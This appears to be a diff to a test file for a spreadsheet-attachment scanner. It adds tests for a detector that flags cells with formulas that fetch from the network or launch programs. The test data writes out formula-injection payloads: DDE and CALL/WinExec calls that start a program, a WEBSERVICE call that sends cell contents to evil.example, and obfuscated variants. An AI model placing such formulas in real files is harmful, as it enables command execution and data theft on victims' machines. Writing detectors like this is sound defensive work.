@@ -1,5 +1,6 @@
 import { Random } from '../../../scripts/lib/random';
 import { startsFromCell } from '../../src/attachments/table';
+import { fetchesFromCell } from '../../src/attachments/table-formulas';
 
 const orders = [
   ...["=2+5+cmd|' /C calc'!A0", "=10*cmd|'/c calc'!A0", "-2+3+cmd|' /C calc'!D2", '"=2+5+cmd|\' /C calc\'!A0"'],
@@ -50,6 +51,35 @@ describe.each(Object.entries(around))('a table that starts a program is found by
   });
 });
 
+const fetching = [
+  ...['=WEBSERVICE("http://evil.example/?"&A2)', '=IMAGE("http://evil.example/x")', '=DDE("cmd";"/c calc";"x")'],
+  ...[
+    '=CALL("kernel32","WinExec","JFJ",0)',
+    '=RTD("x",,"y")',
+    '@webservice("x")',
+    '＝WEBSERVICE("x")',
+    '-1+ DDE ("x")',
+  ],
+  ...["='\\\\evil.example\\s\\[a.xls]S'!A1", "='file:///x/y'#$a.A1", '=IF(1,WEBSERVICE("x"),2)', '+IF(1;IMAGE("x"))'],
+  ...['"=1+\r\nWEBSERVICE(""x"")"', '"  =IF(""a"",WEBSERVICE(""x""))"', ' =WEBSERVICE("x")', '""=WEBSERVICE("x")'],
+];
+
+describe.each(Object.entries(around))('a table that fetches something is found by a cell %s', (_, put) => {
+  test.each(fetching)('with %j', (cell) => {
+    expect(fetchesFromCell(Buffer.from(put(cell)))).toBe(true);
+    expect(fetchesFromCell(Buffer.from(`\ufeff${put(cell).replace('\ufeff', '')}`, 'utf16le'))).toBe(true);
+  });
+});
+
+test.each([
+  'name,note\nRahim,Call (+880) 1711\n-5,3\nKarim,image (png)',
+  '"-5","3"\n"Call (+880) 1711","x"',
+  "- ready,'quoted'\n=SUM(A1:A2),=HYPERLINK(A1)",
+  'WEBSERVICE(x),py (3)',
+])('a table that only speaks of it is taken: %j', (text) => {
+  expect(fetchesFromCell(Buffer.from(text))).toBe(false);
+});
+
 const harmless = [
   ...['name|phone|mail\nRahim|+8801711000000|r@example.com\nKarim|-5|great!', 'a|b\nc|d!e', '+880 1711|+880 1811!'],
   ...['| Skill | Level |\n|-------|:-----:|\n| C++ | very good! |\n| - | = |', '|a|b|\n|-|-|\n|=1|!x|'],
@@ -63,6 +93,7 @@ const harmless = [
 test.each(harmless)('an honest table is taken: %j', (text) => {
   expect(startsFromCell(Buffer.from(text))).toBe(false);
   expect(startsFromCell(Buffer.from(`\ufeff${text}`, 'utf16le'))).toBe(false);
+  expect(fetchesFromCell(Buffer.from(text))).toBe(false);
 });
 
 const words = [
@@ -107,10 +138,15 @@ test.each([
   ['blanks behind names', `a${' '.repeat(long)}|`],
   ['formulas', '=a|b'.repeat(long / 4)],
   ['words without an end', `=a|${'b'.repeat(long)}`],
+  ['cells that begin formulas', '-,'.repeat(long / 2)],
+  ['quoted cells that begin formulas', '"=",'.repeat(long / 4)],
+  ['quotes in quotes', `,"${'""=,'.repeat(long / 4)}`],
+  ['lines that begin formulas', '=WEBSERVIC\n'.repeat(long / 11)],
   ['names without a letter', `=${'5'.repeat(250)}|b!c`.repeat(long / 255)],
 ])('a table of %s is judged in time', (_, text) => {
   const data = Buffer.from(text);
   const begun = performance.now();
   startsFromCell(data);
+  fetchesFromCell(data);
   expect(performance.now() - begun).toBeLessThan(2500);
 });
